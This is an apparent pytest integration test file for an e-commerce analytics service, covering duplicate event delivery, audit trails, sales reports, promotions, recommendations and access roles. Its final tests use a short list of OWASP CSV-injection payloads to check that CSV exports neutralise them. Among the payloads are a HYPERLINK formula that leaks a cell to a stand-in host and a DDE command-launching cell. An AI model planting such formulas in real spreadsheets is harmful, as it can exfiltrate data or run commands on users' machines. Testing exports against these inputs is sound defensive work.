"""Analytics against the real broker and Mongo: a scripted set of events, each delivered twice.

The full journey through every service waits for the saga (issue 6); here the events the saga
would publish are scripted, which is enough to check the store, audit, reports, promotions and
recommendations, and that a duplicate delivery changes nothing.
"""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from analytics_service import commands
from analytics_service.store import event_row

from contracts import SYSTEM, Actor, Envelope, Event
from contracts.analytics import PromotionGranted
from contracts.catalogue import CONSUMERS
from contracts.gateway import AccessDenied
from contracts.inventory import ProductCreated, StockAdjusted, StockPartiallyReserved
from contracts.order import (
    OrderConfirmed,
    OrderPlaced,
    OrderRejected,
    PromotionRedeemed,
)
from contracts.payment import PaymentAuthorized, PaymentFailed
from contracts.registry import all_events
from contracts.testing import sample
from contracts.types import Line, MissingLine, PricedLine
from contracts.user import UserLoggedIn, UserProfileUpdated, UserRegistered
from devkit.bus_testing import Probe, eventually

if TYPE_CHECKING:
    from conftest import AnalyticsHarness

pytestmark = pytest.mark.integration

U1 = Actor(user_id="u1", role="Customer", ip="10.0.0.1", device="Firefox/Linux", region="eu-west")
U2 = Actor(user_id="u2", role="Customer", ip="10.0.0.2", device="Safari/iOS", region="us-east")
ADMIN = Actor(user_id="adm", role="Admin", ip="10.0.0.9", device="curl", region="eu-west")


def env(event: Event, correlation: str, actor: Actor = SYSTEM) -> Envelope[Any]:
    return Envelope.wrap(event, correlation_id=correlation, actor=actor)


def lines(*spec: tuple[str, int, int]) -> tuple[PricedLine, ...]:
    return tuple(PricedLine(product_id=p, quantity=q, price_cents=c) for p, q, c in spec)


def order(
    order_id: str, user: Actor, *spec: tuple[str, int, int], promo: str | None = None
) -> tuple[Envelope[Any], tuple[PricedLine, ...], int]:
    items = lines(*spec)
    total = sum(i.quantity * i.price_cents for i in items)
    placed = OrderPlaced(
        order_id=order_id,
        user_id=str(user.user_id),
        items=items,
        total_cents=total,
        address_id="a",
        payment_method_id="pm",
        promo_code=promo,
    )
    return env(placed, order_id, user), items, total


def confirmed(
    order_id: str, user_id: str, items: tuple[PricedLine, ...], *, partial: bool = False
) -> Envelope[Any]:
    total = sum(i.quantity * i.price_cents for i in items)
    return env(
        OrderConfirmed(
            order_id=order_id,
            user_id=user_id,
            items=items,
            total_cents=total,
            payment_method_id="pm",
            partial_fulfillment=partial,
        ),
        order_id,
    )


def authorized(order_id: str, user_id: str, amount: int) -> Envelope[Any]:
    return env(
        PaymentAuthorized(
            order_id=order_id,
            user_id=user_id,
            payment_id=f"pay-{order_id}",
            amount_cents=amount,
            attempts=1,
        ),
        order_id,
    )


def script() -> tuple[list[Envelope[Any]], list[Envelope[Any]]]:
    """Catalogue, users and orders up to the 3rd confirmed order; then what follows the grant."""
    before: list[Envelope[Any]] = []
    for pid, name, category in (
        ("p1", "Lamp", "lamps"),
        ("p2", "Shade", "lamps"),
        ("p3", "Desk", "desks"),
        ("p4", "Chair", "desks"),
    ):
        before.append(
            env(
                ProductCreated(product_id=pid, name=name, category=category, price_cents=500),
                pid,
                ADMIN,
            )
        )
    before.append(
        env(StockAdjusted(product_id="p4", delta=-5, reason="sold out", available=0), "p4", ADMIN)
    )
    for actor, role in ((U1, "Customer"), (U2, "Customer"), (Actor(user_id="m1"), "Manager")):
        uid = str(actor.user_id)
        before.append(
            env(
                UserRegistered(user_id=uid, username=uid, email=f"{uid}@x.io", role=role),
                uid,
                actor,
            )
        )  # type: ignore[arg-type]
    before.append(
        env(
            UserProfileUpdated(
                user_id="u1", username="u1", email="u1@x.io", is_profile_complete=True
            ),
            "u1",
            U1,
        )
    )
    before.append(
        env(
            UserProfileUpdated(
                user_id="u2", username="u2", email="u2@x.io", is_profile_complete=False
            ),
            "u2",
            U2,
        )
    )
    before.append(env(UserLoggedIn(user_id="u1", ip=U1.ip), "u1", U1))
    # o1: straight through.
    placed, items, total = order("o1", U1, ("p1", 2, 500))
    before += [placed, authorized("o1", "u1", total), confirmed("o1", "u1", items)]
    # o2: one payment failure, then paid.
    placed, items, total = order("o2", U1, ("p1", 1, 500), ("p3", 1, 2000))
    before += [
        placed,
        env(
            PaymentFailed(
                order_id="o2",
                user_id="u1",
                payment_id="pay-o2",
                reason="declined",
                attempts=1,
                retryable=True,
            ),
            "o2",
        ),
        authorized("o2", "u1", total),
        confirmed("o2", "u1", items),
    ]
    # o3: partial: the shade is missing, the customer accepts the desks alone.
    placed, items, total = order("o3", U1, ("p3", 2, 2000), ("p2", 1, 500))
    kept = lines(("p3", 2, 2000))
    before += [
        placed,
        env(
            StockPartiallyReserved(
                order_id="o3",
                user_id="u1",
                reserved=(Line(product_id="p3", quantity=2),),
                missing=(MissingLine(product_id="p2", requested=1, available=0),),
                expires_at=datetime.now(UTC) + timedelta(minutes=5),
            ),
            "o3",
        ),
        confirmed("o3", "u1", kept, partial=True),
    ]
    # u2 buys a lamp and a shade together (the shade is back in stock by then).
    placed, items, total = order("o5", U2, ("p1", 1, 500), ("p2", 1, 1000))
    before += [
        # Later than the partial reservation that saw it at 0 (the newest stock news wins).
        env(
            StockAdjusted(product_id="p2", delta=5, reason="restock", available=5), "p2", ADMIN
        ).model_copy(update={"occurred_at": datetime.now(UTC) + timedelta(seconds=1)}),
        placed,
        authorized("o5", "u2", total),
        confirmed("o5", "u2", items),
    ]
    before.append(
        env(
            AccessDenied(method="GET", path="/api/v1/users", required_roles=("Admin",)), "req-1", U1
        )
    )
    return before, []


def after_grant(code: str) -> list[Envelope[Any]]:
    placed, _, _ = order("o4", U1, ("p1", 1, 500), promo=code)
    return [
        placed,
        env(PromotionRedeemed(user_id="u1", code=code, order_id="o4"), "o4", U1),
        env(
            OrderRejected(order_id="o4", user_id="u1", reason="OUT_OF_STOCK", alternatives=("p2",)),
            "o4",
        ),
    ]


async def publish_twice(h: AnalyticsHarness, envelopes: list[Envelope[Any]]) -> None:
    for envelope in envelopes:
        await h.publish(envelope, envelope)


async def test_scripted_events_twice_give_exact_reports_audit_and_promotions(
    analytics: AnalyticsHarness,
) -> None:
    h = analytics
    channel = await h.connection.channel()
    grants = await Probe.bind(channel, h.config, PromotionGranted.ROUTING_KEY)
    before, _ = script()
    await publish_twice(h, before)
    await eventually(lambda: len(grants.messages) >= 1, what="PromotionGranted")
    granted = Envelope.from_json(grants.messages[0].body).data
    assert isinstance(granted, PromotionGranted)
    assert granted.user_id == "u1" and granted.percent_off == 10
    promos = await h.get("/api/v1/promotions", role="Customer", user="u1")
    assert [p["code"] for p in promos["items"]] == [granted.code]
    assert promos["items"][0]["percentOff"] == 10

    rest = after_grant(granted.code)
    await publish_twice(h, rest)
    every = [*before, *rest]

    async def all_recorded() -> bool:
        return await h.deps.store.events.count_documents({}) >= len(every) + 1  # + the grant

    await eventually(all_recorded, what="every event in the raw store")

    async def rejected() -> bool:
        fact = await h.deps.store.order_facts.find_one({"_id": "o4"})
        return bool(fact and fact["status"] == "REJECTED")

    await eventually(rejected, what="o4 rejected")
    await asyncio.sleep(0.5)  # let any late duplicate land: it must change nothing

    store = h.deps.store
    assert await store.events.count_documents({}) == len(every) + 1
    # One row per event: the audit entry lives in the event's row.
    assert await store.events.count_documents({"audit.action": {"$exists": True}}) == len(every) + 1
    assert len(grants.messages) == 1
    assert await store.promotions.count_documents({}) == 1
    promos = await h.get("/api/v1/promotions", role="Customer", user="u1")
    assert promos["items"] == []  # redeemed on the 4th order

    sales = await h.get("/api/v1/reports/sales")
    confirmed_totals = sum(e.data.total_cents for e in every if isinstance(e.data, OrderConfirmed))
    assert sales["revenueCents"] == confirmed_totals == 1000 + 2500 + 4000 + 1500
    assert sales["ordersByStatus"] == {"CONFIRMED": 4, "REJECTED": 1}
    assert sales["averageOrderValueCents"] == 9000 // 4
    assert sales["paymentFailureRate"] == 0.2
    assert sales["partialFulfillmentRate"] == 0.2
    assert sales["topProducts"][0] == {
        "productId": "p3",
        "name": "Desk",
        "quantity": 3,
        "revenueCents": 6000,
    }
    assert sum(g["revenueCents"] for g in sales["groups"]) == confirmed_totals
    by_product = await h.get("/api/v1/reports/sales", groupBy="product")
    assert {g["key"]: g["orders"] for g in by_product["groups"]} == {"p1": 3, "p2": 1, "p3": 2}
    csv = await h.client.get(
        "/api/v1/reports/sales",
        params={"groupBy": "product", "format": "csv"},
        headers=h.headers("m", "Manager"),
    )
    assert csv.status_code == 200 and csv.headers["content-type"].startswith("text/csv")
    # api.md's three columns first, the refunds, the net and the product's name appended.
    header = "key,orders,revenueCents,refundsCents,netRevenueCents,name"
    assert csv.text.splitlines()[0] == header
    assert "p3,2,6000,0,6000,Desk" in csv.text.splitlines()

    funnel = await h.get("/api/v1/reports/funnel", role="Manager")
    assert funnel == {"registered": 2, "profileComplete": 1, "firstOrder": 2, "repeatOrder": 1}

    trail = await h.get("/api/v1/audit", actorId="u1", limit=100)
    actions = [i["action"] for i in trail["items"]]
    assert actions[:3] == ["UserRegistered", "UserProfileUpdated", "UserLoggedIn"]
    assert "AccessDenied" in actions and "PromotionRedeemed" in actions
    assert [i["at"] for i in trail["items"]] == sorted(i["at"] for i in trail["items"])
    denied = next(i for i in trail["items"] if i["action"] == "AccessDenied")
    assert denied["outcome"] == "denied"
    assert denied["actor"] == {
        "userId": "u1",
        "role": "Customer",
        "ip": "10.0.0.1",
        "device": "Firefox/Linux",
        "region": "eu-west",
    }
    follow = await h.get("/api/v1/audit", entityId="o2", role="Manager")
    assert [i["action"] for i in follow["items"]] == [
        "OrderPlaced",
        "PaymentFailed",
        "PaymentAuthorized",
        "OrderConfirmed",
    ]
    assert {i["outcome"] for i in follow["items"]} == {"ok", "failed"}
    journey = await h.get("/api/v1/audit", correlationId="o3")
    # (PromotionGranted follows whichever confirmation was counted third.)
    assert [i["action"] for i in journey["items"]][:3] == [
        "OrderPlaced",
        "StockPartiallyReserved",
        "OrderConfirmed",
    ]
    page = await h.get("/api/v1/audit", actorId="u1", limit=2)
    second = await h.get("/api/v1/audit", actorId="u1", limit=2, cursor=page["nextCursor"])
    assert [i["action"] for i in page["items"] + second["items"]] == actions[:4]

    recs = await h.get("/api/v1/recommendations", role="Customer", user="u1")
    products = [r["productId"] for r in recs["items"]]
    assert products and products[0] == "p2" and recs["items"][0]["reason"] == "boughtTogether"
    assert "p4" not in products  # out of stock
    assert not {"p1", "p3"} & set(products)  # bought repeatedly
    cold = await h.get("/api/v1/recommendations", role="Customer", user="newcomer")
    assert [r["productId"] for r in cold["items"]][:3] == ["p1", "p3", "p2"]
    assert {r["reason"] for r in cold["items"]} == {"topSeller"}


async def test_roles_on_reports_audit_promotions(analytics: AnalyticsHarness) -> None:
    h = analytics
    customer = h.headers("u9", "Customer")
    for path in ("/api/v1/reports/sales", "/api/v1/reports/funnel", "/api/v1/audit"):
        response = await h.client.get(path, headers=customer)
        assert response.status_code == 403, path
        assert response.json()["code"] == "FORBIDDEN"
        assert (await h.client.get(path, headers=h.headers("m", "Manager"))).status_code == 200
        assert (await h.client.get(path)).status_code == 401
    for path in ("/api/v1/promotions", "/api/v1/recommendations"):
        assert (await h.client.get(path, headers=customer)).status_code == 200
    bad = await h.client.get(
        "/api/v1/reports/sales", params={"from": "yesterday"}, headers=h.headers("a", "Admin")
    )
    assert bad.status_code == 422 and bad.json()["code"] == "VALIDATION_ERROR"
    too_many = await h.client.get(
        "/api/v1/audit", params={"limit": 101}, headers=h.headers("a", "Admin")
    )
    assert too_many.status_code == 422


async def _snapshot(h: AnalyticsHarness) -> dict[str, list[dict[str, Any]]]:
    names = ("events", "order_facts", "user_facts", "products", "promotions")
    snapshot = {}
    for name in names:
        rows = await h.deps.store.find(name, {}, sort=[("_id", 1)])
        snapshot[name] = [{k: v for k, v in r.items() if k != "recorded_at"} for r in rows]
    return snapshot


async def test_a_second_delivery_of_every_event_type_changes_nothing(
    analytics: AnalyticsHarness,
) -> None:
    h = analytics
    types = {n: c for n, c in all_events().items() if "analytics" in CONSUMERS.get(n, ())}
    envelopes = [env(sample(cls), "c1") for cls in types.values()]
    await h.publish(*envelopes)

    async def recorded() -> bool:
        return await h.deps.store.events.count_documents({}) >= len(envelopes)

    await eventually(recorded, what="every type recorded")
    await asyncio.sleep(0.5)
    first = await _snapshot(h)
    assert {e["type"] for e in first["events"]} >= set(types)
    await h.publish(*envelopes)
    await asyncio.sleep(1.0)
    assert await _snapshot(h) == first


async def test_an_event_recorded_already_is_not_folded_again(
    analytics: AnalyticsHarness,
) -> None:
    """There are no inbox rows: the event's row (committed with its projections) is the record.
    Delivered again, beside a new event in one batch, the recorded events change nothing (the
    order fact and the user's facts are not folded twice, the trail lists each once) while the
    new one is recorded."""
    h = analytics
    placed, items, _ = order("o9", Actor(user_id="u9", role="Customer"), ("p1", 2, 500))
    conf = confirmed("o9", "u9", items)
    await h.publish(placed, conf)

    async def folded() -> bool:
        fact = await h.deps.store.order_facts.find_one({"_id": "o9"})
        return bool(fact and fact["status"] == "CONFIRMED")

    await eventually(folded, what="o9 confirmed")
    await asyncio.sleep(0.3)
    first = await _snapshot(h)
    # Feeds no projection: after it, the snapshot may differ by its own row only.
    news = env(AccessDenied(method="GET", path="/x", required_roles=("Admin",)), "r9", U2)
    await h.publish(placed, conf, news)

    async def news_recorded() -> bool:  # one queue, handled in order: the two came first
        return await h.deps.store.events.count_documents({"_id": news.id}) == 1

    await eventually(news_recorded, what="the new event")
    await asyncio.sleep(0.3)
    after = await _snapshot(h)
    assert [e["_id"] for e in after["events"] if e["_id"] != news.id] == [
        e["_id"] for e in first["events"]
    ]
    after["events"] = [e for e in after["events"] if e["_id"] != news.id]
    assert after == first
    # No inbox at all: neither rows nor the TTL index a consumer with an inbox creates.
    assert "inbox" not in await h.deps.db.list_collection_names()
    trail = await h.get("/api/v1/audit", correlationId="o9")
    assert [e["action"] for e in trail["items"]] == ["OrderPlaced", "OrderConfirmed"]


async def test_the_audit_rows_of_an_older_database_move_onto_their_events(
    analytics: AnalyticsHarness,
) -> None:
    """Before one row per event, the audit trail had its own collection: start-up moves its
    rows onto the events' rows, so the trail still lists them (and the old collection goes)."""
    h = analytics
    store = h.deps.store
    placed, _, _ = order("o8", Actor(user_id="u8", role="Customer"), ("p1", 1, 700))
    row = event_row(placed, datetime.now(UTC))
    entry = row.pop("audit")
    await store.events.insert_one(row)  # as the former record_event wrote them: two rows
    await store.db["audit"].insert_one({"_id": row["_id"], **entry})
    assert await store.adopt_legacy_audit() == 1
    assert "audit" not in await store.db.list_collection_names()
    assert await store.adopt_legacy_audit() == 0  # once
    trail = await h.get("/api/v1/audit", entityId="o8")
    assert [(e["action"], e["actor"]["userId"]) for e in trail["items"]] == [("OrderPlaced", "u8")]


async def test_winback_grants_inactive_buyers_once(analytics: AnalyticsHarness) -> None:
    h = analytics
    channel = await h.connection.channel()
    grants = await Probe.bind(channel, h.config, PromotionGranted.ROUTING_KEY)
    now = datetime.now(UTC)
    long_ago = now - timedelta(days=40)
    await h.deps.store.user_facts.insert_many(
        [
            {
                "_id": "gone",
                "role": "Customer",
                "last_active_at": long_ago,
                "confirmed_orders": ["o1"],
            },
            {
                "_id": "active",
                "role": "Customer",
                "last_active_at": now,
                "confirmed_orders": ["o2"],
            },
            {"_id": "browser", "role": "Customer", "last_active_at": long_ago},
            {
                "_id": "boss",
                "role": "Manager",
                "last_active_at": long_ago,
                "confirmed_orders": ["o3"],
            },
        ]
    )
    sweep = commands.grant_winbacks
    assert await asyncio.gather(sweep(h.deps, now), sweep(h.deps, now)) in (
        [1, 0],
        [0, 1],
    )
    assert await sweep(h.deps, now) == 0
    await eventually(lambda: len(grants.messages) == 1, what="PromotionGranted")
    granted = Envelope.from_json(grants.messages[0].body).data
    assert isinstance(granted, PromotionGranted)
    assert granted.user_id == "gone" and granted.percent_off == 15
    promos = await h.get("/api/v1/promotions", role="Customer", user="gone")
    assert [p["code"] for p in promos["items"]] == [granted.code]
    await asyncio.sleep(0.3)
    assert len(grants.messages) == 1


async def test_a_product_sold_out_by_a_partial_reservation_is_not_recommended(
    analytics: AnalyticsHarness,
) -> None:
    """Inventory's missing line says how many it had (and took): none are left after it."""
    h = analytics
    created = [
        env(ProductCreated(product_id=p, name=p, category="lamps", price_cents=500), p, ADMIN)
        for p in ("lamp", "last-one")
    ]
    placed, items, total = order("o1", U1, ("lamp", 1, 500))
    bought = [placed, authorized("o1", "u1", total), confirmed("o1", "u1", items)]
    partial = env(
        StockPartiallyReserved(
            order_id="o2",
            user_id="u2",
            reserved=(Line(product_id="last-one", quantity=1),),
            missing=(MissingLine(product_id="last-one", requested=3, available=1),),
            expires_at=datetime.now(UTC) + timedelta(minutes=5),
        ),
        "o2",
        U2,
    )
    await h.publish(*created, *bought)

    async def recommended() -> list[str]:
        found = await h.get("/api/v1/recommendations", role="Customer", user="u1")
        return [i["productId"] for i in found["items"]]

    await eventually(lambda: _contains(recommended, "last-one"), what="the shade recommended")
    await h.publish(partial)
    await eventually(lambda: _lacks(recommended, "last-one"), what="the sold-out shade dropped")
    product = await h.deps.store.products.find_one({"_id": "last-one"})
    assert product is not None and product["available"] == 0


async def _contains(found: Any, product_id: str) -> bool:
    return product_id in await found()


async def _lacks(found: Any, product_id: str) -> bool:
    return product_id not in await found()


async def test_an_action_without_a_region_shows_the_accounts_region(
    analytics: AnalyticsHarness,
) -> None:
    """A browser sends no X-Region: the audit says the region the account was registered in."""
    h = analytics
    bare = Actor(user_id="u7", role="Customer", ip="10.0.0.7", device="Chrome/macOS")
    registered = env(
        UserRegistered(
            user_id="u7", username="u7", email="u7@x.io", role="Customer", region="ap-south"
        ),
        "u7",
        bare.model_copy(update={"region": "ap-south"}),
    )
    denied = env(
        AccessDenied(method="GET", path="/api/v1/users", required_roles=("Admin",)), "u7", bare
    )
    travelling = env(
        UserLoggedIn(user_id="u7", ip="10.0.0.8"),
        "u7",
        U1.model_copy(update={"user_id": "u7", "region": "us-east"}),
    )
    await h.publish(registered, denied, travelling)

    async def trail() -> list[dict[str, Any]]:
        found = await h.get("/api/v1/audit", actorId="u7")
        items: list[dict[str, Any]] = found["items"]
        return items

    await eventually(lambda: _count(trail, 3), what="three audit entries")
    regions = {i["action"]: i["actor"]["region"] for i in await trail()}
    assert regions == {
        "UserRegistered": "ap-south",
        "AccessDenied": "ap-south",  # none of its own: the account's
        "UserLoggedIn": "us-east",  # its own wins
    }


async def _count(found: Any, n: int) -> bool:
    return len(await found()) == n


# Cells a spreadsheet would run as a formula (OWASP's CSV injection list).
FORMULA_IDS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


async def test_sales_csv_neutralises_cells_a_spreadsheet_would_run(
    analytics: AnalyticsHarness,
) -> None:
    h = analytics
    for n, pid in enumerate(FORMULA_IDS):
        product = ProductCreated(product_id=pid, name=pid, category="x", price_cents=100)
        placed, items, _ = order(f"f{n}", U1, (pid, 1, 100))
        await h.publish(env(product, pid, ADMIN), placed, confirmed(f"f{n}", "u1", items))

    async def all_confirmed() -> bool:
        return await h.deps.store.order_facts.count_documents({"status": "CONFIRMED"}) == len(
            FORMULA_IDS
        )

    await eventually(all_confirmed, what="every order confirmed")
    response = await h.client.get(
        "/api/v1/reports/sales",
        params={"groupBy": "product", "format": "csv"},
        headers=h.headers("m", "Manager"),
    )
    assert response.status_code == 200
    header, *rows = csv.reader(io.StringIO(response.text, newline=""))
    assert header == ["key", "orders", "revenueCents", "refundsCents", "netRevenueCents", "name"]
    # Each key and name is still readable (a leading quote, the text kept), none starts a
    # formula (each product here is named as its id).
    assert all(row[5] == row[0] for row in rows)
    keys = [row[0] for row in rows]
    assert sorted(keys) == sorted(f"'{pid}" for pid in FORMULA_IDS)
    assert all(row[1:5] == ["1", "100", "0", "100"] for row in rows)
    # JSON is no spreadsheet: it keeps the keys as they are.
    report = await h.get("/api/v1/reports/sales", groupBy="product")
    assert sorted(g["key"] for g in report["groups"]) == sorted(FORMULA_IDS)


async def test_sales_totals_never_add_two_currencies(analytics: AnalyticsHarness) -> None:
    h = analytics
    placed, items, _ = order("usd1", U1, ("p-usd", 2, 500))
    await h.publish(placed, confirmed("usd1", "u1", items))
    for order_id, status in (("eur1", "CONFIRMED"), ("eur2", "PENDING")):
        placed, items, _ = order(order_id, U2, ("p-eur", 1, 700))
        await h.publish(
            placed.model_copy(update={"data": placed.data.model_copy(update={"currency": "EUR"})})
        )
        if status == "CONFIRMED":
            done = confirmed(order_id, "u2", items)
            await h.publish(
                done.model_copy(update={"data": done.data.model_copy(update={"currency": "EUR"})})
            )

    async def folded() -> bool:
        return (
            await h.deps.store.order_facts.count_documents({"status": "CONFIRMED"}) == 2
            and await h.deps.store.order_facts.count_documents({"currency": "EUR"}) == 2
        )

    await eventually(folded, what="three orders folded")
    usd = await h.get("/api/v1/reports/sales", role="Manager", groupBy="product")
    assert usd["currency"] == "USD"
    assert usd["revenueCents"] == 1000
    assert usd["averageOrderValueCents"] == 1000
    assert usd["ordersByStatus"] == {"CONFIRMED": 1}
    assert [p["productId"] for p in usd["topProducts"]] == ["p-usd"]
    assert [(g["key"], g["orders"], g["revenueCents"]) for g in usd["groups"]] == [
        ("p-usd", 1, 1000)
    ]
    assert usd["currencies"] == ["EUR", "USD"]  # what else the window holds
    eur = await h.get("/api/v1/reports/sales", role="Manager", currency="EUR")
    assert eur["currency"] == "EUR"
    assert eur["revenueCents"] == 700
    assert eur["ordersByStatus"] == {"CONFIRMED": 1, "PENDING": 1}
    assert sum(g["revenueCents"] for g in eur["groups"]) == 700
    odd = await h.client.get(
        "/api/v1/reports/sales", params={"currency": "eur"}, headers=h.headers("m", "Manager")
    )
    assert odd.status_code == 422 and odd.json()["code"] == "VALIDATION_ERROR"
